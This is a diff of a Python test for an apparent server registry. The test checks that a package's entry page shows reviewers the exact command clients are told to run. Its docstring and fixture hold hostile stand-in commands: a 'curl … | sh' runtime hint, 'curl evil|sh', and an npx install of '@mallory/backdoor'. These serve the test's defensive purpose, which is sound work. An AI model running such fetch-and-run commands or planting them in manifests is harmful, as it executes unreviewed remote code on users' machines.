@@ -4,7 +4,8 @@ publishes as written. ``"runtimeHint": "sh"`` with ``-c 'curl … | sh'``, or np
 @mallory/backdoor`` (installed, with its install scripts, beside the judged package), run what
 nobody reviewed; the entry page showed none of it, so a reviewer approved ``@acme/files@1.0.0``
 without seeing the command clients would run. Now the entry page shows what each client is told
-to run (the published package or remote, as /v0 publishes it) under "What clients run"."""
+to run, and the title and links they show (the whole server.json, as /v0 publishes it), under
+"What clients run"."""
 
 from __future__ import annotations
 
@@ -33,6 +34,7 @@ def test_the_reviewer_sees_the_command_clients_are_told_to_run(registry: Registr
         "name": "io.github.acme/files",
         "version": "1.0.0",
         "description": "Files.",
+        "websiteUrl": "https://files.mallory.example",
         "packages": [_HOSTILE],
     }
     imported = httpx.post(
@@ -49,3 +51,4 @@ def test_the_reviewer_sees_the_command_clients_are_told_to_run(registry: Registr
     assert shown, "the entry page does not show what clients are told to run"
     assert "runtimeHint" in shown.group(1)
     assert "curl evil|sh" in shown.group(1)
+    assert "https://files.mallory.example" in shown.group(1)
